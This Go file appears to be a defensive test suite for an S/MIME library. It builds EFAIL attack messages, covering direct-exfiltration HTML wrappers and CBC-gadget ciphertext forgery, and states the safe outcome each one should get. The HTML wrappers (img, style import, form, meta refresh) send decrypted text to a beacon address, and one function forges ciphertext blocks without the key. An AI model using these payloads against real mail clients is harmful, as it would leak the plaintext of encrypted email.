package attacks

import (
	"bytes"
	"crypto/aes"
	"strings"

	"signet/smime"
	"signet/smime/cms"
	"signet/smime/internal/testca"
	"signet/smime/internal/testmail"
)

// carried is what comes of an encrypted part with nothing but text around it.
var carried = Outcome{Verdict: smime.VerdictPartlySigned, Enclosed: smime.VerdictConfidential, Finding: smime.FindingPartlyEncrypted}

const carriedResult = "the part is shown in a place of its own, as what the message carries, under its own verdict; answers do not quote it"

// efail is "Efail: Breaking S/MIME and OpenPGP Email Encryption using Exfiltration Channels" (2018).
func efail() Class {
	const direct = "Poddebniak et al. 2018, direct exfiltration"
	const gadgets = "Poddebniak et al. 2018, CBC gadgets, CVE-2017-17689"
	around := func(id, attack, kind, before, after string) Vector {
		v := Vector{
			ID: "efail-" + id, Attack: attack, Source: direct,
			Make: func(w World) []byte {
				return w.message(alice, multipart(kind, "m", html(before), w.sealed(text(Secret)), html(after)))
			},
			Want:   Outcome{Verdict: smime.VerdictPartlySigned, Finding: smime.FindingPartlyEncrypted, Sealed: true},
			Result: "an encrypted part among others is not decrypted",
		}
		if kind == "mixed" {
			v.Want, v.Result = carried, carriedResult
		}
		return v
	}
	changed := func(id, attack string, ciphertext func(w World) []byte, want Outcome, result string) Vector {
		return Vector{
			ID: "efail-" + id, Attack: attack, Source: gadgets, Want: want, Result: result,
			Make: func(w World) []byte { return w.message(alice, part("enveloped-data", ciphertext(w))) },
		}
	}
	unproven := Outcome{Verdict: smime.VerdictConfidential, Finding: smime.FindingNotAuthenticated}
	return Class{
		Name:  "EFAIL",
		About: "Text that was encrypted to Bob is put where a mail program sends it away once it has decrypted it.",
		Vectors: []Vector{
			around("image", "An image's address begins before the encrypted part and ends after it", "mixed", `<img src="`+Beacon, `">`),
			around("image-alternative", "The same in multipart/alternative", "alternative", `<img src="`+Beacon, `">`),
			around("image-related", "The same in multipart/related", "related", `<img src="`+Beacon, `">`),
			around("style", "A style sheet's import, which needs no end", "mixed", `<style>@import url("`+Beacon, `")</style>`),
			around("form", "A form that takes the text as a field and sends it when Enter is pressed", "mixed", `<form action="`+Beacon+`"><textarea name=t>`, `</textarea><input type=submit></form>`),
			around("link", "A link around it, or a base for the addresses in it", "mixed", `<base href="`+Beacon+`"><a href="`+Beacon, `">more</a>`),
			around("script", "A frame's source or an object's data", "mixed", `<iframe srcdoc='<img src="`+Beacon, `">'></iframe>`),
			around("refresh", "A refresh to an address with the text in it", "mixed", `<meta http-equiv=refresh content="0;url=`+Beacon, `">`),
			changed("gadgets", "Known blocks become an image's address around the text, without the key", func(w World) []byte { return w.gadgets() },
				unproven, "told that nobody vouches for the text; what is in it fetches nothing"),
			changed("inside-signed", "A bit is turned in what was signed and then encrypted", func(w World) []byte {
				return w.turned(w.clear(text(strings.Repeat(Genuine+" ", 400)), w.Alice))
			}, Outcome{Verdict: smime.VerdictInvalid}, "the signature inside no longer holds"),
			changed("inside-opaque", "The same where the text is inside of its signature", func(w World) []byte {
				return w.turned(w.opaque(text(strings.Repeat(Genuine+" ", 400)), w.Alice))
			}, Outcome{Error: smime.CodeMalformed}, "nothing of it is shown"),
			changed("html", "An image in HTML that was encrypted whole, by the attacker", func(w World) []byte {
				return w.enveloped(html(`<p>Hello</p><img src="` + Beacon + `read"><link rel=prefetch href="` + Beacon + `link">`))
			}, unproven, "nothing is fetched, and nothing is offered to be"),
		},
	}
}

// gadgets is an EnvelopedData in which the attacker, who knows the first block and no key, has put HTML around the text.
// Each gadget is a block of noise and a block of her choice; the noise goes where HTML ignores it. Now and then it ends what it
// is in. She would try it with the next message; here Bob's key tells whether it did.
func (w World) gadgets() []byte {
	for {
		der := w.tryGadgets()
		plaintext := testmail.Must(testmail.Must(cms.ParseEnvelopedData(der)).Decrypt(bobsKey{w.Bob}, cms.DecryptOptions{})).Content
		if bytes.Count(plaintext, []byte(`"`)) == 4 && bytes.Count(plaintext, []byte("<")) == 4 {
			return der
		}
	}
}

type bobsKey struct{ bob *testca.Identity }

func (k bobsKey) DecryptionKeys(cms.RecipientIdentifier) ([]cms.DecryptionKey, error) {
	return []cms.DecryptionKey{{Certificate: k.bob.Certificate, Key: k.bob.Key}}, nil
}

func (w World) tryGadgets() []byte {
	const known = "Content-Type: te"
	ed := takeEnvelopeApart(w.enveloped(known + "xt/html\r\n\r\n<p>.." + "................" + Secret + "</p>\r\n"))
	iv, first := ed.iv, ed.ciphertext[:aes.BlockSize]
	choose := func(block string) []byte {
		previous := bytes.Clone(iv)
		for i := range previous {
			previous[i] ^= known[i] ^ block[i]
		}
		return append(previous, first...)
	}
	out := bytes.Clone(ed.ciphertext[:2*aes.BlockSize]) // the header and its end
	out = append(out, choose(`<img ignore="    `[:16])...)
	out = append(out, choose(`" src="`+Beacon)...)
	out = append(out, ed.ciphertext[aes.BlockSize:len(ed.ciphertext)-aes.BlockSize]...)
	out = append(out, choose(`">`+strings.Repeat("\x0e", 14))...) // the last block, with its padding
	ed.ciphertext = out
	return ed.der()
}

// turned is an EnvelopedData with one bit turned in the middle of what is inside, and so a block of noise before it.
func (w World) turned(inside string) []byte {
	ed := takeEnvelopeApart(w.enveloped(inside))
	ed.ciphertext = bytes.Clone(ed.ciphertext)
	ed.ciphertext[len(ed.ciphertext)/2] ^= 1
	return ed.der()
}
